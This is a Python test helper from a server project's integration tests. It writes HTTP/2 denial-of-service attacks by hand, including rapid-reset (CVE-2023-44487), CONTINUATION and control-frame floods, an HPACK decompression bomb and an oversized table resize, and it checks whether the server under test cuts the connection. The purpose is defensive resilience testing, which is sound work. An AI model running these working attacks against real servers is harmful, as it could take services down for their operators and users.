"""HTTP/2 attack shapes against a server, written frame by frame: for keel's tests (Tests/IntegrationTests/FrontHTTP2Tests).

    h2attack.py ATTACK --port P [--host H] [--tls] [--count N] [--timeout S]

ATTACK is one of:
    rapid-reset         HEADERS then RST_STREAM(CANCEL) for stream after stream (CVE-2023-44487)
    continuation-flood  one HEADERS without END_HEADERS, then CONTINUATION frames that never end the block
    big-headers         one request whose header block is 10 MiB, in HEADERS + CONTINUATION frames of 16 KiB
    settings-flood      SETTINGS frames, as fast as the socket takes them
    ping-flood          PING frames, likewise
    hpack-bomb          a 4 KiB header put in the HPACK table once, then referenced by a one-byte index thousands of
                        times in one block (a few KiB on the wire, tens of MiB decoded)
    hpack-table-size    a header block that resizes the HPACK table to 1 GiB, above the server's SETTINGS_HEADER_TABLE_SIZE
    even-stream         a request on stream 2, an id only a server may open (a plain protocol error, no flood)

It reads whatever the server sends while it writes, and stops writing at the server's GOAWAY or close, at --timeout,
or when --count is spent; after an error GOAWAY it waits for the close. Prints one JSON line; exits 0 when the server
cut it off, 1 when it did not, 2 on a usage or connection error. Frames are written by hand (h2frames.py).
"""
import argparse
import json
import select
import ssl
import struct
import sys
import time

import hpack

from h2frames import CONTINUATION, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS
from h2frames import FrameReader, connect, frame

CANCEL = 0x8
ERROR_NAMES = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED",
               "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM",
               "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]  # RFC 9113 §7, by code


class Server:
    """The connection, its reader (frames parsed as they come) and what the server said."""

    def __init__(self, host, port, use_tls, timeout):
        self.sock = connect(host, port, use_tls, timeout)
        self.sock.setblocking(False)
        self.reader = FrameReader()
        self.goaway = None
        self.closed = False
        self.settings = False  # the server's SETTINGS seen: it speaks HTTP/2 (an HTTP/1 close is no cut-off)
        self.authority = "%s:%d" % (host, port)
        self.scheme = "https" if use_tls else "http"

    def send(self, data, deadline):
        """Writes all of data unless the server goes away first; reads while the socket is full."""
        view = memoryview(data)
        while view and not self.cut_off and time.monotonic() < deadline:
            _, writable, _ = select.select([self.sock], [self.sock], [], 0.05)
            self.read()
            if writable and not self.cut_off:
                try:
                    view = view[self.sock.send(view):]
                except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                    pass
                except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
                    self.closed = True

    def read(self):
        while not self.closed:
            try:
                data = self.sock.recv(65536)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                return
            except (ConnectionResetError, BrokenPipeError, ssl.SSLError, OSError):
                data = b""
            if not data:
                self.closed = True
                return
            for kind, _, _, payload in self.reader.feed(data):
                if kind == SETTINGS:
                    self.settings = True
                if kind == GOAWAY and self.goaway is None:
                    last, code = struct.unpack(">II", payload[:8])
                    self.goaway = (last & 0x7FFFFFFF, code)

    @property
    def cut_off(self):
        return self.closed or (self.goaway is not None and self.goaway[1] != 0)

    def request_block(self, encoder, extra=()):
        return encoder.encode([(":method", "GET"), (":path", "/"), (":scheme", self.scheme),
                               (":authority", self.authority)] + list(extra))


def rapid_reset(server, count, deadline):
    encoder = hpack.Encoder()
    sent, stream_id = 0, 1
    while sent < count and not server.cut_off and time.monotonic() < deadline:
        batch = b""
        for _ in range(min(100, count - sent)):
            batch += frame(HEADERS, END_STREAM | END_HEADERS, stream_id, server.request_block(encoder))
            batch += frame(RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL))
            stream_id += 2
            sent += 1
        server.send(batch, deadline)
    return sent


def continuation_flood(server, count, deadline):
    encoder = hpack.Encoder()
    server.send(frame(HEADERS, END_STREAM, 1, server.request_block(encoder)), deadline)
    # Small literal headers (not indexed), so each frame is a valid piece of one ever-growing block.
    piece = b"\x00\x07x-flood\x08aaaaaaaa"
    return repeat(server, frame(CONTINUATION, 0, 1, piece), 100, count, deadline)


def repeat(server, one_frame, burst, count, deadline):
    """Sends one_frame count times, burst at a time, until the server cuts it off; returns how many were sent."""
    sent = 0
    while sent < count and not server.cut_off and time.monotonic() < deadline:
        n = min(burst, count - sent)
        server.send(one_frame * n, deadline)
        sent += n
    return sent


def big_headers(server, count, deadline):
    filler = b"\x00\x08x-filler" + bytes([0x7F, 0x81, 0x07]) + b"b" * 1024  # literal, 1 KiB value (7-bit prefix 127+896)
    return send_header_block(server, server.request_block(hpack.Encoder()) + filler * (10 * 1024), deadline)


def send_header_block(server, block, deadline):
    """One request's header block on stream 1: HEADERS, then CONTINUATION frames of 16 KiB; returns frames sent."""
    pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    sent = 0
    for index, piece in enumerate(pieces):
        if server.cut_off or time.monotonic() >= deadline:
            break
        kind = HEADERS if index == 0 else CONTINUATION
        flags = (END_STREAM if index == 0 else 0) | (END_HEADERS if index == len(pieces) - 1 else 0)
        server.send(frame(kind, flags, 1, piece), deadline)
        sent += 1
    return sent


def control_flood(kind):
    def flood(server, count, deadline):
        payload = b"" if kind == SETTINGS else b"keelping"
        return repeat(server, frame(kind, 0, 0, payload), 500, count, deadline)
    return flood


def hpack_bomb(server, count, deadline):
    # Literal with incremental indexing: the header enters the dynamic table at index 62...
    value = b"z" * 4000
    insert = b"\x40\x06x-bomb" + bytes([0x7F]) + encode_varint(len(value) - 127) + value
    # ...and each 0xBE (indexed, 62) repeats all 4 KiB of it in the decoded list.
    return send_header_block(server, server.request_block(hpack.Encoder()) + insert + b"\xBE" * min(count, 16000), deadline)


def hpack_table_size(server, count, deadline):
    # A dynamic table size update (001xxxxx) to 2^30, which only SETTINGS_HEADER_TABLE_SIZE may allow.
    block = bytes([0x3F]) + encode_varint((1 << 30) - 31) + server.request_block(hpack.Encoder())
    server.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block), deadline)
    return 1


def even_stream(server, count, deadline):
    server.send(frame(HEADERS, END_STREAM | END_HEADERS, 2, server.request_block(hpack.Encoder())), deadline)
    return 1


def encode_varint(value):
    """HPACK's integer continuation bytes (after a full prefix)."""
    out = b""
    while value >= 128:
        out += bytes([(value % 128) + 128])
        value //= 128
    return out + bytes([value])


ATTACKS = {
    "rapid-reset": (rapid_reset, 10000),
    "continuation-flood": (continuation_flood, 100000),
    "big-headers": (big_headers, 0),
    "settings-flood": (control_flood(SETTINGS), 100000),
    "ping-flood": (control_flood(PING), 100000),
    "hpack-bomb": (hpack_bomb, 16000),
    "hpack-table-size": (hpack_table_size, 1),
    "even-stream": (even_stream, 1),
}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--count", type=int)
    parser.add_argument("--timeout", type=float, default=10)
    args = parser.parse_args()
    attack, default_count = ATTACKS[args.attack]
    started = time.monotonic()
    deadline = started + args.timeout
    try:
        server = Server(args.host, args.port, args.tls, args.timeout)
    except (OSError, ConnectionError) as error:
        print("h2attack.py: cannot connect to %s:%d: %s" % (args.host, args.port, error), file=sys.stderr)
        return 2
    server.send(PREFACE + frame(SETTINGS, 0, 0), deadline)
    # Its SETTINGS before the attack: otherwise a server that does not speak HTTP/2 and closes looks like a cut-off.
    while not server.settings and not server.closed and time.monotonic() < deadline:
        select.select([server.sock], [], [], 0.05)
        server.read()
    if not server.settings:
        print("h2attack.py: %s:%d sent no HTTP/2 SETTINGS frame (not HTTP/2, or no h2c on this listener?)"
              % (args.host, args.port), file=sys.stderr)
        return 2
    sent = attack(server, args.count if args.count is not None else default_count, deadline)
    # Give the server the rest of the time to answer what was sent, and to close after its GOAWAY.
    while not server.closed and time.monotonic() < deadline:
        select.select([server.sock], [], [], 0.05)
        server.read()
    code = server.goaway[1] if server.goaway else None
    print(json.dumps({
        "attack": args.attack, "cut_off": server.cut_off, "goaway": server.goaway is not None, "error_code": code,
        "error_name": (ERROR_NAMES[code] if code < len(ERROR_NAMES) else hex(code)) if code is not None else None,
        "last_stream_id": server.goaway[0] if server.goaway else None, "closed": server.closed, "sent": sent,
        "seconds": round(time.monotonic() - started, 3)}), flush=True)
    return 0 if server.cut_off else 1


if __name__ == "__main__":
    sys.exit(main())
